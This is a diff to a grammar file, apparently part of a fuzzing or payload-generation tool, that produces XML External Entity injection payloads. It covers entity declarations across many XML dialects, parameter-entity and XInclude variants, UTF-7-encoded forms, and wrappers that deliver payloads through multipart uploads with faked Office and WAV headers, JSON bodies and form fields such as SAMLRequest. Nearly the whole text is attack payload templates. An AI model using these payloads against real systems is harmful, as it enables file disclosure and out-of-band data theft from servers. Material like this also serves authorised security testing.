@@ -72,7 +72,6 @@ formats := <!DOCTYPE rss [<!ENTITY «$e:ent» SYSTEM "«source»">]><rss version
   ¦ <!DOCTYPE Autodiscover [<!ENTITY «$e:ent» SYSTEM "«source»">]><Autodiscover><Request><EMailAddress>«word»</EMailAddress><AcceptableResponseSchema>&«$e»;</AcceptableResponseSchema></Request></Autodiscover>
   ¦ <!DOCTYPE methodCall [<!ENTITY «$e:ent» SYSTEM "«source»">]><methodCall><methodName>&«$e»;</methodName><params><param><value>«word»</value></param></params></methodCall>
   ¦ <!DOCTYPE worksheet [<!ENTITY % «$e:ent» SYSTEM "«url»">%«$e»;]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>
-  ¦ <!DOCTYPE «$r:root» [<!ENTITY «$e:ent» SYSTEM "«source»">]><«$r» xmlns="http://www.opengis.net/wfs"><PropertyName>&«$e»;</PropertyName></«$r»>
   ¦ <!DOCTYPE plist [<!ENTITY «$e:ent» SYSTEM "«source»">]><plist version="1.0"><dict><key>«word»</key><string>&«$e»;</string></dict></plist>
   ¦ <!DOCTYPE gpx [<!ENTITY «$e:ent» SYSTEM "«source»">]><gpx version="1.1"><name>&«$e»;</name></gpx>
   ¦ <!DOCTYPE propfind [<!ENTITY «$e:ent» SYSTEM "«source»">]><propfind xmlns="DAV:"><prop><«$t:word»>&«$e»;</«$t»></prop></propfind>
@@ -87,14 +86,20 @@ xslt := <?xml-stylesheet type="text/xsl" href="«url».xsl"?><«root»/>
   ¦ <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="«url»"/></xs:schema>
 encoded := +ADwAIQ-DOCTYPE «$r:root» +AFs- +ADwAIQ-ENTITY «$e:ent» SYSTEM +ACI-«source»+ACIAPgBd-+AD4- +ADw-«$r»+AD4AJg-«$e»+ADsAPA-/«$r»+AD4-
   ¦ &lt;!DOCTYPE «root» [&lt;!ENTITY «ent» SYSTEM "«source»"&gt;]&gt; ¦ «general|slashu» ¦ <![CDATA[«general»]]>
-fragment := *4 «general» ¦ *3 «oob» ¦ «prolog»«general» ¦ «prolog»«oob» ¦ «general|url» ¦ «oob|url»
-  ¦ <!ENTITY «ent» SYSTEM "«source»"> ¦ <!DOCTYPE «root» [<!ENTITY % «$e:ent» SYSTEM "«source»">%«$e»;]>
-  ¦ «document|b64» ¦ «xinclude» ¦ «document|url2» ¦ "><!DOCTYPE «root» SYSTEM "«url»">
-  ¦ <!entity «ent» system "«source»"> ¦ xmlns:xi="http://www.w3.org/2001/XInclude" ¦ %«ent»;]>
+fragment := *4 «general» ¦ <![CDATA[<]]>«word»<![CDATA[>]]> ¦ <!DOCTYPE «root» [<!ELEMENT «root» (#ANY)>
+  ¦ <!ENTITY % «ent» "<!ENTITY «ent» SYSTEM '«source»'>"> ¦ <!DOCTYPE «root» PUBLIC "«word»" "«url»">
+  ¦ <!ENTITY «ent» PUBLIC "«ab»" "«source»"> ¦ <?xml-stylesheet href="«url»"?>
+  ¦ «prolog»<!DOCTYPE «$r:root» [<!ELEMENT «$r» ANY><!ENTITY «$e:ent» SYSTEM "«source»">]><«$r»>&«$e»;</«$r»>
+  ¦ «prolog»<!DOCTYPE «root» [<!ENTITY % «$e:ent» SYSTEM "«source»"> %«$e»; ]>
+  ¦ <xi:include parse="text" href="«source»" xmlns:xi="http://www.w3.org/2001/XInclude"/> ¦ *3 «oob» ¦ «prolog»«general»
+  ¦ «prolog»«oob» ¦ «general|url» ¦ «oob|url» ¦ <!ENTITY «ent» SYSTEM "«source»">
+  ¦ <!DOCTYPE «root» [<!ENTITY % «$e:ent» SYSTEM "«source»">%«$e»;]> ¦ «document|b64» ¦ «xinclude» ¦ «document|url2»
+  ¦ "><!DOCTYPE «root» SYSTEM "«url»"> ¦ <!entity «ent» system "«source»"> ¦ xmlns:xi="http://www.w3.org/2001/XInclude"
+  ¦ %«ent»;]>
 part := Content-Disposition: form-data; name="«word»"; filename="«rand».«=xml~svg~gpx~rss~xsd~wsdl~opml~xml~kml~drawio»"«cr»«nl»Content-Type: «=text/xml~application/xml~image/svg+xml~application/octet-stream»«cr»«nl»«cr»«nl»«document»
   ¦ Content-Disposition: form-data; name="file"; filename="«word».«=docx~xlsx~pptx~odt~epub»"«cr»«nl»Content-Type: application/vnd.openxmlformats-officedocument«cr»«nl»«cr»«nl»PK«x03»«x04»«x14»«nul»«=word/document.xml~xl/workbook.xml~[Content_Types].xml~content.xml~docProps/app.xml»«document»PK«x05»«x06»
   ¦ Content-Disposition: form-data; name="«=xml~data~request~config~payload»"«cr»«nl»«cr»«nl»«document»
-  ¦ Content-Disposition: form-data; name="image"; filename="«rand».«=wav~mp3~jpg»"«cr»«nl»Content-Type: audio/wav«cr»«nl»«cr»«nl»RIFF«x80»«nul»«nul»«nul»WAVEiXML{«nul»«nul»«nul»«document»
+  ¦ @2021 Content-Disposition: form-data; name="image"; filename="«rand».«=wav~mp3~jpg»"«cr»«nl»Content-Type: audio/wav«cr»«nl»«cr»«nl»RIFF«x80»«nul»«nul»«nul»WAVEiXML{«nul»«nul»«nul»«document»
 json_wrapped := {"«name»":"«document|js»"} ¦ {"xml":"«document|js»","«name»":«int»} ¦ {"data":"«document|b64»"}
   ¦ {"type":"svg","content":"«svg|js»"}
 form_wrapped := *2 «=xml~data~request~xmlData~content~body~SAMLRequest~soap~payload~source~feed~text~REQUEST~postData»=«document|plus»
